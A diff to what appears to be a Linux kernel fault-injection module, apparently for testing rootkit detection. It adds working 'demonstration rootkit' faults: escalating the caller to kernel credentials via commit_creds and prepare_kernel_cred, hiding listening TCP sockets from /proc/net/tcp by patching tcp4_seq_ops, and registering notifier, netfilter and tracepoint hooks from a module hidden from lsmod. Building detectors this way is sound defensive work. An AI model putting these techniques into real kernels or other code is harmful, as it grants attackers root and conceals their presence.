@@ -24,6 +24,9 @@
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/mutex.h>
+#include <linux/netfilter.h>
+#include <linux/netfilter_ipv4.h>
+#include <linux/notifier.h>
 #include <linux/proc_fs.h>
 #include <linux/rcupdate.h>
 #include <linux/rculist.h>
@@ -31,17 +34,22 @@
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
+#include <linux/seq_file.h>
 #include <linux/skbuff.h>
 #include <linux/slab.h>
 #include <linux/smp.h>
 #include <linux/spinlock.h>
 #include <linux/string.h>
 #include <linux/timer.h>
+#include <linux/tracepoint.h>
 #include <linux/uaccess.h>
 #include <linux/version.h>
 #include <linux/vmalloc.h>
 #include <linux/workqueue.h>
 #include <asm/tsc.h>
+#include <net/net_namespace.h>
+#include <net/sock.h>
+#include <net/tcp_states.h>
 
 #if LINUX_VERSION_CODE < KERNEL_VERSION(6, 2, 0)
 #define timer_delete_sync del_timer_sync
@@ -496,6 +504,23 @@ static void root_cred(void)
 	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
 }
 
+/* As exploits do: the writer gets new credentials that are in order, or those of another process, of all of the kernel itself. */
+static void give_root(void)
+{
+	struct cred *c = prepare_kernel_cred(&init_task);
+
+	if (c)
+		commit_creds(c);
+}
+
+static void share_cred(void)
+{
+	const struct cred *c = get_task_cred(&init_task);
+
+	rcu_assign_pointer(current->real_cred, get_cred(c));
+	rcu_assign_pointer(current->cred, c);
+}
+
 /* The demonstration rootkit: hides its module from lsmod, and the writer from ps. */
 static struct list_head *module_prev;
 
@@ -606,6 +631,34 @@ static void hook_fops_off(void)
 	proc_root = NULL;
 }
 
+/* What shows the sockets of TCP in /proc/net/tcp goes through the module, and leaves out those that listen. */
+static struct seq_operations *tcp_seq;
+static int (*show_tcp)(struct seq_file *seq, void *v);
+
+static int hide_listeners(struct seq_file *seq, void *v)
+{
+	atomic_inc(&calls);
+	if (v != SEQ_START_TOKEN && ((struct sock *)v)->sk_state == TCP_LISTEN)
+		return 0;
+	return show_tcp(seq, v);
+}
+
+static void hide_socket(void)
+{
+	tcp_seq = (struct seq_operations *)find("tcp4_seq_ops");
+	if (!tcp_seq)
+		return;
+	show_tcp = tcp_seq->show;
+	poke((unsigned long *)&tcp_seq->show, (unsigned long)hide_listeners);
+}
+
+static void hide_socket_off(void)
+{
+	if (tcp_seq)
+		poke((unsigned long *)&tcp_seq->show, (unsigned long)show_tcp);
+	tcp_seq = NULL;
+}
+
 /*
  * The rootkit's third way: a kprobe whose handler is in a module that no list shows. What lists a directory does not come to a name that begins as
  * this module's: the probed function, filldir64(ctx, name, ...), is left at once, and seems to have done its work.
@@ -643,6 +696,84 @@ static void probe_off(void)
 	spy.pre_handler = hide_name;
 }
 
+/* Its other ways to be called, all from a module that no list shows: when modules come and go, when packets leave, when a task gets another name. */
+static int hear(struct notifier_block *nb, unsigned long event, void *data)
+{
+	atomic_inc(&calls);
+	return NOTIFY_DONE;
+}
+
+static struct notifier_block listener = { .notifier_call = hear };
+static bool listens;
+
+static void notifier(void)
+{
+	listens = !register_module_notifier(&listener);
+	hide_module();
+}
+
+static void notifier_off(void)
+{
+	hide_module_off();
+	if (listens)
+		unregister_module_notifier(&listener);
+	listens = false;
+	listener.notifier_call = hear;
+}
+
+static unsigned int see_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
+{
+	atomic_inc(&calls);
+	return NF_ACCEPT;
+}
+
+static const struct nf_hook_ops filter = { .hook = see_packet, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_OUT };
+static bool filters;
+
+static void packet_filter(void)
+{
+	filters = !nf_register_net_hook(&init_net, &filter);
+	hide_module();
+}
+
+static void packet_filter_off(void)
+{
+	hide_module_off();
+	if (filters)
+		nf_unregister_net_hook(&init_net, &filter);
+	filters = false;
+}
+
+static struct tracepoint *task_rename;
+
+static void see_rename(void *data, struct task_struct *task, const char *comm)
+{
+	atomic_inc(&calls);
+}
+
+static void is_task_rename(struct tracepoint *tp, void *priv)
+{
+	if (!strcmp(tp->name, "task_rename"))
+		*(struct tracepoint **)priv = tp;
+}
+
+static void tracepoint(void)
+{
+	for_each_kernel_tracepoint(is_task_rename, &task_rename);
+	if (task_rename && tracepoint_probe_register(task_rename, see_rename, NULL))
+		task_rename = NULL;
+	hide_module();
+}
+
+static void tracepoint_off(void)
+{
+	hide_module_off();
+	if (task_rename)
+		tracepoint_probe_unregister(task_rename, see_rename, NULL);
+	task_rename = NULL;
+	tracepoint_synchronize_unregister();
+}
+
 static struct fault {
 	const char *name;
 	void (*on)(void);
@@ -673,11 +804,17 @@ static struct fault {
 	{ "clock-stands", clock_stands },
 	{ "wild-write", wild_write },
 	{ "root-cred", root_cred },
+	{ "give-root", give_root },
+	{ "share-cred", share_cred },
 	{ "hook-syscall", hook_syscall, hook_syscall_off },
 	{ "hook-fops", hook_fops, hook_fops_off },
+	{ "hide-socket", hide_socket, hide_socket_off },
 	{ "hide-module", hide_module, hide_module_off },
 	{ "hide-task", hide_task, hide_task_off },
 	{ "probe", probe, probe_off },
+	{ "notifier", notifier, notifier_off },
+	{ "packet-filter", packet_filter, packet_filter_off },
+	{ "tracepoint", tracepoint, tracepoint_off },
 };
 
 static ssize_t fault_write(struct file *file, const char __user *from, size_t n, loff_t *pos)
